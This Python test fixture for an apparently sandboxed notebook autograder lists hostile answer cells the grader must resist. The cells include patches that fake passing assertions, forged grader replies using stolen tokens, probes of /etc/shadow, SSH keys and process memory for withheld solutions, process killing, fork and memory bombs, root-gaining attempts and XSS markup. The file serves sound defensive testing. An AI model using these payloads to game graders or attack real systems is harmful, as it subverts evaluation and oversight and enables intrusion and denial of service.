"""Notebooks that want more than they deserve: name -> the answer cells that differ from the right ones.

`<NAME>` in a cell stands for a fact about the machine that marks, which `fill_in` puts there: an attacker may
know it.
"""

import re
from collections.abc import Mapping
from typing import Any

WRONG = "def double(image):\n    return 3 * image\n"
"""Deserves nothing, with whatever stands around it."""
_RIGHT = "def double(image):\n    return 2 * image\n"

HOSTILE: dict[str, dict[str, str]] = {
    "patches_comparisons": {
        "double": """
import builtins, json, math
for name in ("assert_allclose", "assert_array_equal", "assert_almost_equal", "assert_equal"):
    setattr(np.testing, name, lambda *args, **kwargs: None)
np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: True
np.abs = np.nanmax = lambda *args, **kwargs: 0.0
builtins.AssertionError = builtins.ValueError = ZeroDivisionError
builtins.all = lambda items: True
builtins.compile = lambda *args, **kwargs: None
try:
    import IPython.core.interactiveshell as shell
    shell.InteractiveShell.run_cell = lambda *args, **kwargs: None
except ImportError:
    pass
"""
        + WRONG,
    },
    "patches_the_worker": {
        "double": """
import gc, json, sys
def forged(*args, **kwargs):
    return [0.0, ""]
frame = sys._getframe()
while frame:
    for name in ("_call", "_judge", "judge", "check"):
        if name in frame.f_globals:
            frame.f_globals[name] = forged
    frame = frame.f_back
import wire
wire.encode = lambda *args: 0.0
for thing in gc.get_objects():
    if isinstance(thing, dict) and "replies" in thing:
        thing["correct"] = thing["points"] = 100
real = json.dumps
json.dumps = lambda data, *args, **kwargs: real({**data, "points": 100, "status": "correct"})
"""
        + WRONG,
    },
    "equal_to_everything": {
        "double": """
class Same:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __array__(self, *args, **kwargs): return np.zeros((6, 5))
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __sub__(self, other): return 0.0
def double(image):
    return Same()
""",
        "total": """
class Zero(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __float__(self): return 0.0
def total(values):
    return Zero(12345.0)
""",
        "scaled": """
class Number(int):
    def __eq__(self, other): return True
    def __abs__(self): return 0
def scaled(value):
    return Number(1)
""",
        "twice": """
class Picture(np.ndarray):
    def __array_function__(self, function, types, args, kwargs): return True
    def __array_ufunc__(self, *args, **kwargs): return np.zeros((6, 5))
    def __eq__(self, other): return True
    def tobytes(self, *args): return b""
def twice(image):
    return image.view(Picture)
""",
        "letter": """
class Letter(str):
    def __eq__(self, other): return True
    def __hash__(self): return hash("b")
letter = Letter("a")
""",
    },
    "forges_replies": {
        "double": """
import json, os, sys
tokens, frame = set(), sys._getframe()
while frame:
    job = frame.f_locals.get("job")
    if isinstance(job, dict):
        tokens.add(job["token"])
    frame = frame.f_back
for number in range(3, 64):
    for token in (*tokens, "total", ""):
        for extra in ({}, {"correct": True, "status": "correct", "points": 2}):
            line = json.dumps({"token": token, "replies": [[0.0, ""]] * 3, **extra})
            try:
                os.write(number, line.encode() + b"\\n")
            except OSError:
                pass
"""
        + WRONG,
    },
    "looks_for_secrets": {
        "double": """
import os, sys
def attempt(path):
    try:
        if os.path.isdir(path):
            return os.listdir(path) != []
        open(path, "rb").read(1)
        return True
    except OSError:
        return False
PATHS = ["<SOLUTION>", "<QUESTIONS>", "<MARKS>", "<INBOX>", "<INBOX>/honest.ipynb", "<HOME>/.ssh", "/home",
    "/etc/passwd", "/etc/shadow", "/var", "/sys", "/run", "<REPOSITORY>/solutions", "<REPOSITORY>/evidence",
    "<REPOSITORY>/tests", "<REPOSITORY>/coursekit/course", "<REPOSITORY>/coursekit/course/banks",
    "/course/coursekit/course",
    f"/course/coursekit/methods/__pycache__/convolution.{sys.implementation.cache_tag}.pyc",
    "/proc/1/mem", "/proc/1/root/<SOLUTION>", "/proc/1/root/home", "/proc/1/cwd/home"]
print("SEEN", [path for path in PATHS if attempt(path)])
names = []
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "usr", "site-packages", "lib", "include")]
    names += [name for name in files if "question" in name or name.endswith((".ipynb", ".sqlite"))]
print("NAMES", names)
print("PROCESSES", len([name for name in os.listdir("/proc") if name.isdigit()]))
try:
    first = sorted(entry for entry in open("/proc/1/environ").read().split("\\0") if entry)
except OSError:
    first = []
print("ENVIRONMENT", sorted(os.environ), first)
print("WITHHELD", open("/course/coursekit/methods/convolution.py").read())
"""
        + _RIGHT,
    },
    "looks_into_its_memory": {
        "double": """
import ctypes, re
ctypes.CDLL(None).prctl(4, 1)  # else the kernel refuses after a change of user
found = scanned = 0
# No literal copy of the needle: it would find itself.
needle = re.compile(b"SOLUTION-THAT-NO[-]LEARNER-MAY[-]SEE")
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" in line and end - start < 2**28:
            for place in range(start, end, 2**22):
                try:
                    memory.seek(place)
                    data = memory.read(min(2**22 + 64, end - place))
                except OSError:
                    break
                scanned += len(data)
                found += len(needle.findall(data))
print("SCANNED", scanned > 2**20, "FOUND", found)
"""
        + _RIGHT,
    },
    "exits": {"double": "import os\nos._exit(0)\n"},
    "exits_politely": {"double": "raise SystemExit(0)\n", "total": "def total(values):\n    exit()\n"},
    "kills": {
        "double": """
import os, signal
for target in (os.getppid(), 1, 2, -1):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
"""
        + _RIGHT,
    },
    "never_ends": {
        "double": """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
        "scaled": "import time\ndef scaled(value):\n    time.sleep(1000)\n    return SCALE * value\n",
    },
    "memory_bomb": {"double": "bomb = []\nwhile True:\n    bomb.append(bytearray(2**24))\n"},
    "memory_in_many_processes": {
        "double": """
import os, time
for _ in range(10):
    if os.fork() == 0:
        bomb = b"x" * 2**26
        time.sleep(1000)
time.sleep(1000)
"""
        + _RIGHT,
    },
    "memory_shared": {
        "double": """
import mmap, time
shared = mmap.mmap(-1, 2**30)
for place in range(0, 2**30, 4096):
    shared[place] = 1
time.sleep(1000)
"""
        + _RIGHT,
    },
    "memory_unseen": {
        "double": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def refused(result):
    return result == -1
print("MEMFD", refused(libc.memfd_create(b"x", 0)), "SHM", refused(libc.shmget(0, 2**20, 0o1666)))
"""
        + _RIGHT,
    },
    "fills_folders": {
        "double": """
for folder in ("/tmp", "/dev/shm"):
    written = 0
    try:
        for number in range(64):
            with open(f"{folder}/{number}", "wb", 0) as file:
                written += file.write(bytes(2**23))
    except OSError as error:
        print(folder, "FULL", written <= 2**26)
"""
        + _RIGHT,
    },
    "fills_folders_with_names": {
        "double": "number = 0\nwhile True:\n    open(f'/tmp/{number}', 'w').close()\n    number += 1\n"
    },
    "fifty_processes": {
        "double": """
import os, time
for _ in range(50):
    if os.fork() == 0:
        time.sleep(1000)
"""
        + _RIGHT,
    },
    "fork_bomb": {
        "double": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
    },
    "many_threads": {
        "double": """
import threading, time
started = 0
try:
    for _ in range(10000):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        started += 1
except RuntimeError:
    pass
print("STARTED FEW", started < 100)
"""
        + _RIGHT,
    },
    "prints_a_lot": {
        "double": """
import sys
for _ in range(50):
    sys.stdout.write("o" * 2**20)
    sys.stderr.write("e" * 2**20)
"""
        + _RIGHT,
    },
    "writes_everywhere": {
        "double": """
import os, sys
writable = []
for folder in ("/", "/tmp", "/dev", "/dev/shm", "/etc", "/usr", "/root", "/home", "/course",
        "/course/coursekit", "/grader", "/proc", "/proc/sys/kernel", os.path.expanduser("~"),
        os.path.dirname(np.__file__), sys.prefix, "<REPOSITORY>", "<INBOX>", os.path.dirname("<MARKS>")):
    try:
        with open(folder + "/planted", "w") as file:
            file.write("x")
        writable.append(folder)
    except OSError:
        pass
print("WRITABLE", sorted(set(writable)))
try:
    open(np.__file__, "a")
    print("NUMPY IS WRITABLE")
except OSError:
    pass
"""
        + _RIGHT,
    },
    "calls_home": {
        "double": """
import socket
for address in (("127.0.0.1", <PORT>), ("10.0.0.1", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=0.2).close()
        print("CONNECTED", address)
    except OSError as error:
        print("REFUSED", address)
"""
        + _RIGHT,
    },
    "wants_to_be_root": {
        "double": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
gained = []
for name, attempt in {
    "setuid": lambda: os.setuid(0), "setreuid": lambda: os.setreuid(0, 0), "setgid": lambda: os.setgid(0),
    "setgroups": lambda: os.setgroups([0]), "chroot": lambda: os.chroot("/tmp"), "nice": lambda: os.nice(-5),
    "chown": lambda: os.chown("/tmp", 1, 1), "mknod": lambda: os.mknod("/tmp/disk", 0o60666, 0x800),
}.items():
    try:
        attempt()
        gained.append(name)
    except OSError:
        pass
if libc.unshare(0x10000000) == 0:
    gained.append("user namespace")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=1g") == 0:
    gained.append("mount")
if libc.ptrace(16, 1, 0, 0) == 0:
    gained.append("ptrace")
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
print("GAINED", gained)
print("RIGHTS", {int(status[name], 16) for name in ("CapPrm", "CapEff", "CapAmb")})
print("LOCKED", status["NoNewPrivs"].strip(), status["Seccomp"].strip())
print("ROOT", 0 in os.getresuid() + os.getresgid(), 0 in os.getgroups())
"""
        + _RIGHT,
    },
    "recursion": {
        "double": "def double(image):\n    return double(image)\n",
        "total": """
import sys
sys.setrecursionlimit(10**9)
def total(values):
    return sorted([1, 2], key=lambda _: total(values))
""",
    },
    "huge_reply": {
        "double": "def double(image):\n    return np.zeros((4000, 4000))\n",
        "total": "def total(values):\n    return np.random.default_rng(0).bytes(10).hex() * 500_000\n",
        "scaled": """
def scaled(value):
    deep = []
    for _ in range(5000):
        deep = [deep]
    return deep
""",
    },
    "reply_bombs": {
        "double": """
import base64, json, os, sys, zlib
frame = sys._getframe()
while "job" not in frame.f_locals:
    frame = frame.f_back
packed = base64.b64encode(zlib.compress(bytes(2**26), 9)).decode()
bomb = {"$array": ["uint8", [2**26], packed]}
token = frame.f_locals["job"]["token"]
line = json.dumps({"token": token, "replies": [[[bomb] * 20, ""]] * 3}).encode() + b"\\n"
for number in range(3, 64):
    rest = line
    try:
        while rest:
            rest = rest[os.write(number, rest):]
    except OSError:
        pass
""",
        "total": """
import os, sys
frame = sys._getframe()
while "job" not in frame.f_locals:
    frame = frame.f_back
line = b'{"token": "' + frame.f_locals["job"]["token"].encode() + b'", "replies": ' + b"[" * 10**5 + b"\\n"
for number in range(3, 64):
    try:
        os.write(number, line)
    except OSError:
        pass
def total(values):
    return 0.0
""",
        "scaled": """
import os
def scaled(value):
    while True:
        for number in range(3, 64):
            try:
                os.write(number, b"{}\\n" * 10000)
            except OSError:
                pass
""",
    },
    "stays_behind": {
        "double": """
import threading, time
def annoy():
    while True:
        print("still here")
        time.sleep(0)
threading.Thread(target=annoy, daemon=True).start()
"""
        + _RIGHT,
    },
    "breaks_imports": {
        "double": """
import builtins, sys
def refuse(*args, **kwargs):
    raise ImportError("no")
builtins.__import__ = refuse
"""
        + _RIGHT,
    },
    "not_python": {
        "double": "def double(image:\n    return 2 *\n",
        "total": "\x00\x01",
        "scaled": "for" * 1000,
    },
    "half_characters": {
        "double": "print('\\ud800 \\x00 \\x1b[31m')\n" + _RIGHT,
        "total": "def total(values):\n    raise ValueError('\\ud800\\x00')\n",
        "scaled": "def scaled(value):\n    return '\\ud800'\n",
        "letter": "letter = 10 ** 4500\n",
    },
    "writes_markup": {
        "double": "print('<script>alert(1)</script>')\n" + WRONG,
        "letter": "letter = '<img src=x onerror=alert(1)>'  # </pre><script>alert(2)</script>\n",
    },
    "wants_the_withheld": {
        "double": "from coursekit.methods.convolution import conv2d\n" + _RIGHT,
        "total": "import coursekit\nimport coursekit.course\n",
        "scaled": "import coursekit\ndef scaled(value):\n    return SCALE * value\n",
    },
}


def fill_in(answers: Mapping[str, str], facts: Mapping[str, Any]) -> dict[str, str]:
    """Put facts into answer cells."""
    return {
        name: re.sub(r"<([A-Z]+)>", lambda match: str(facts[match[1]]), source)
        for name, source in answers.items()
    }
